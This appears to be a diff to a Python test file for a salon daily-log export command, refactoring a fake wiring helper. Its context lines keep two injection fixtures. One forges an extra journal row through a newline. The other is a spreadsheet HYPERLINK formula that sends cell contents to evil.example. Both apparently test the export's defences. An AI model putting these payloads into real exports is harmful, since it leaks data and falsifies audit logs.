@@ -9,7 +9,6 @@ import subprocess
 from collections.abc import Iterator
 from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
-from types import SimpleNamespace
 
 import openpyxl
 import pytest
@@ -21,6 +20,7 @@ from app.services.audit import AuditJournal
 from app.services.daily_log import DailyLogService
 from models.audit import JournalEntry
 from models.db import connect_url, open_store
+from tests.support.fake_wiring import FakeWiring
 
 ROOT = Path(__file__).resolve().parents[2]
 SCREENSHOTS = ROOT / "artifacts" / "screenshots"
@@ -31,14 +31,6 @@ SALON = SalonSettings("MSK-TVERSKAYA-12", "Салон «Тверская, 12»",
                       "2", "ru")
 FORGED = "нет денег\n99 | 12:00:00 | admin | +79990000000 | Смена тарифа | выполнено"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'
-
-
-class FakeWiring:
-    def __init__(self, service: DailyLogService) -> None:
-        self._services = SimpleNamespace(daily_log=service, audit=None)
-
-    def services(self) -> SimpleNamespace:
-        return self._services
 
 
 @pytest.fixture
@@ -77,7 +69,7 @@ def export(service: DailyLogService, *argv: str) -> tuple[int, str, str]:
     with pytest.MonkeyPatch.context() as patch:
         patch.setattr("sys.stderr", err)
         args = cli.build_parser().parse_args(["log", "export", *argv])
-        code = cli.run(args, FakeWiring(service), out)  # type: ignore[arg-type]
+        code = cli.run(args, FakeWiring(daily_log=service), out)  # type: ignore[arg-type]
     return code, out.getvalue(), err.getvalue()
 
 
